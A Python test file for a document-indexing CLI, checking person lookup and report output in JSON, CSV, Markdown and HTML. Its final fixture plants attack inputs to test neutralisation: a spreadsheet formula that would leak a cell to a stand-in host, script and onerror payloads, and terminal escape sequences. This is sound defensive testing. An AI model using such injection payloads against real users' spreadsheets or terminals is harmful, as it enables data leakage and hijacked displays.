"""`who` and `report` through the CLI, on the index built from the demo corpus."""
from __future__ import annotations

import csv
import io
import json

import pytest
from typer.testing import CliRunner

from corpus_search.cli import app
from tests.paths import SEED_IDS

runner = CliRunner()


def cli(built_index, *args):
    settings, _ = built_index
    return runner.invoke(app, ["--index", str(settings.index_dir), *args])


def test_who_ade_adetosoye_has_both_roles_with_sources(built_index):
    result = cli(built_index, "who", "Ade Adetosoye", "--json")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["name"] == "Ade Adetosoye" and data["honours"] == ["OBE"]
    roles = {r["role"].lower(): r for r in data["roles"]}
    director = roles["executive director for care services, education and health"]
    interim = roles["interim chief executive"]
    assert director["date"].startswith("2016") and director["doc_id"].startswith("000")
    assert interim["date"].startswith("2019") and interim["doc_id"].startswith("001") and interim["status"] == "interim"
    assert "Ade Adetosoye" in director["evidence"] and "Ade Adetosoye" in interim["evidence"]
    assert [r["date"] for r in data["roles"]] == sorted(r["date"] for r in data["roles"])
    assert {d["doc_id"][:3] for d in data["documents"]} == {"000", "001"}
    assert {"Robert Evans", "Peter Fortune"} <= {r["name"] for r in data["related"]}


@pytest.mark.parametrize("query", ["Fortune", "fortune", "Cllr Peter Fortune", "PETER FORTUNE"])
def test_who_by_surname_alias_and_case(built_index, query):
    result = cli(built_index, "who", query, "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["name"] == "Peter Fortune"


def test_who_is_accent_insensitive(built_index):
    result = cli(built_index, "who", "Adé Adetosoyé", "--json")
    assert result.exit_code == 0 and json.loads(result.stdout)["name"] == "Ade Adetosoye"


def test_who_unknown_suggests_and_exits_1(built_index):
    result = cli(built_index, "who", "Ade Adetosoy")
    assert result.exit_code == 1
    assert result.stderr == "Error: no person called 'Ade Adetosoy' in the index; did you mean 'Ade Adetosoye'?\n"


def test_who_ambiguous_lists_candidates(tmp_path):
    from corpus_search.config import Settings
    from corpus_search.pipeline import ingest

    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "a.txt").write_text("Councillor Robert Evans chaired the meeting.\n\nRobert Evans said the plan was agreed.\n")
    (folder / "b.txt").write_text("Councillor Mary Evans opened the library.\n\nMary Evans said it was a good day.\n")
    settings = Settings(index_dir=tmp_path / "home")
    ingest([folder], settings)
    result = runner.invoke(app, ["--index", str(settings.index_dir), "who", "Evans", "--json"])
    assert result.exit_code == 1
    names = {c["name"] for c in json.loads(result.stdout)["candidates"]}
    assert names == {"Robert Evans", "Mary Evans"}


def test_who_table_output(built_index):
    result = cli(built_index, "who", "Ade Adetosoye")
    assert result.exit_code == 0
    assert "interim chief executive" in result.output and "OBE" in result.output


def test_report_jsonl_all_kinds_have_doc_id_and_kind(built_index):
    result = cli(built_index, "report", "--kind", "all", "--format", "jsonl")
    assert result.exit_code == 0
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    kinds = {r["kind"] for r in rows}
    assert {"document", "person", "role", "date", "money", "judgement", "sentence"} <= kinds
    assert all(r["doc_id"] in SEED_IDS for r in rows)
    money = [r for r in rows if r["kind"] == "money"]
    assert {(r["doc_id"][:3], r["value"], r["currency"]) for r in money} == {("000", 2300000.0, "GBP"), ("004", 2300000.0, "GBP")}
    docs = [r for r in rows if r["kind"] == "document"]
    assert len(docs) == 5 and all(set(r["sentiment_scores"]) == {"positive", "negative", "neutral"} for r in docs)


@pytest.mark.parametrize("kind, singular", [("people", "person"), ("roles", "role"), ("dates", "date"), ("judgements", "judgement")])
def test_report_single_kind(built_index, kind, singular):
    result = cli(built_index, "report", "--kind", kind)
    assert result.exit_code == 0
    assert {json.loads(line)["kind"] for line in result.stdout.splitlines()} == {singular}


def test_report_csv_and_markdown(built_index):
    result = cli(built_index, "report", "--kind", "dates", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows and set(rows[0]) == {"doc_id", "text", "start", "end", "value", "end_value", "page"}
    assert any(r["text"] == "8th and 9th November 2016" and r["value"] == "2016-11-08" and r["end_value"] == "2016-11-09" for r in rows)
    md = cli(built_index, "report", "--kind", "money", "--format", "md").stdout
    assert md.startswith("## money\n\n| doc_id |") and "2300000" in md


def test_report_html_is_self_contained_and_escaped(built_index, tmp_path):
    out = tmp_path / "report.html"
    result = cli(built_index, "report", "--format", "html", "--output", str(out))
    assert result.exit_code == 0
    html = out.read_text(encoding="utf-8")
    assert html.startswith("<!doctype html>") and "<svg" in html
    # One inline script of its own (sorting and filtering tables); nothing loaded from anywhere.
    assert html.count("<script") == 1 and "<script src" not in html and "http://" not in html and "https://" not in html
    assert "Inspection grades by organisation" in html


def test_report_html_escapes_document_text(tmp_path):
    from corpus_search.config import Settings
    from corpus_search.pipeline import ingest

    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "x.txt").write_text("Title <script>alert(1)</script>\n\nCouncillor Jane <b>Roe said the £5m plan was agreed on 3 May 2021.\n")
    settings = Settings(index_dir=tmp_path / "home")
    ingest([folder], settings)
    result = runner.invoke(app, ["--index", str(settings.index_dir), "report", "--format", "html"])
    assert "<script>alert(1)</script>" not in result.stdout and "&lt;script&gt;" in result.stdout


def test_report_bad_kind_exits_2(built_index):
    result = cli(built_index, "report", "--kind", "cats")
    assert result.exit_code == 2 and result.stderr.startswith("Error: unknown --kind 'cats'")


def test_search_person_filter(built_index):
    result = cli(built_index, "search", "Ofsted", "--person", "Fortune", "--json")
    assert result.exit_code == 0
    assert {r["doc_id"][:3] for r in json.loads(result.stdout)["results"]} == {"001", "002"}


@pytest.fixture(scope="module")
def hostile_home(tmp_path_factory):
    """An index of documents written to attack spreadsheets, Markdown viewers and terminals."""
    from corpus_search.config import Settings
    from corpus_search.pipeline import ingest

    base = tmp_path_factory.mktemp("hostile")
    folder = base / "docs"
    folder.mkdir()
    (folder / "formula.txt").write_text(
        '=HYPERLINK("http://example.invalid/?leak="&A1,"click")\n\nCouncillor Jane Roe said the £5m plan was agreed on 3 May 2021.\n',
        encoding="utf-8",
    )
    (folder / "markup.txt").write_text(
        "Notice <img src=x onerror=alert(1)>\n\nCouncillor Jane Roe [/] said [bold]the plan[/bold] was agreed.\n"
        "\x1b[31mRed text\x1b[0m and a title change \x1b]0;owned\x07 here.\n"
        + "The committee noted the report and asked officers to return with costed options in the autumn.\n" * 6,
        encoding="utf-8",
    )
    settings = Settings(index_dir=base / "home")
    ingest([folder], settings)
    return settings


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(hostile_home):
    from corpus_search.report import csv_safe

    out = runner.invoke(app, ["--index", str(hostile_home.index_dir), "report", "--kind", "sentences", "--format", "csv"]).stdout
    texts = [r["text"] for r in csv.DictReader(io.StringIO(out)) if r["doc_id"] == "formula.txt"]
    assert texts[0].startswith("'=HYPERLINK(")
    everything = runner.invoke(app, ["--index", str(hostile_home.index_dir), "report", "--format", "csv"]).stdout
    assert all(not row[2].startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(everything)))
    assert [csv_safe(c) for c in ("=1+1", "+44 20", "-x", "@SUM(A1)", "\tcmd", "\rcmd", "-5", "-2.5e3", "plain")] == [
        "'=1+1", "'+44 20", "'-x", "'@SUM(A1)", "'\tcmd", "'\rcmd", "-5", "-2.5e3", "plain"]


def test_markdown_report_escapes_html(hostile_home):
    md = runner.invoke(app, ["--index", str(hostile_home.index_dir), "report", "--format", "md"]).stdout
    assert "<img" not in md and "onerror=alert(1)>" not in md and "&lt;img src=x onerror=alert(1)&gt;" in md


def test_rich_markup_in_document_text_prints_literally(hostile_home):
    result = runner.invoke(app, ["--index", str(hostile_home.index_dir), "who", "Jane Roe"])
    assert result.exit_code == 0, result.output
    assert "[/]" in result.stdout and "[bold]the plan[/bold]" in result.stdout


def test_terminal_output_strips_escape_sequences(hostile_home):
    home = ["--index", str(hostile_home.index_dir)]
    shown = runner.invoke(app, [*home, "show", "markup.txt"])
    assert shown.exit_code == 0 and "Red text" in shown.stdout
    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout and "owned" not in shown.stdout
    found = runner.invoke(app, [*home, "search", "red text"])
    assert found.exit_code == 0 and "\x1b" not in found.stdout
    assert "\x1b" not in runner.invoke(app, [*home, "who", "Jane Roe"]).stdout
    # --json keeps the text as stored: offsets must still point into it.
    data = json.loads(runner.invoke(app, [*home, "show", "markup.txt", "--json"]).stdout)
    assert "\x1b[31mRed text" in data["text"]
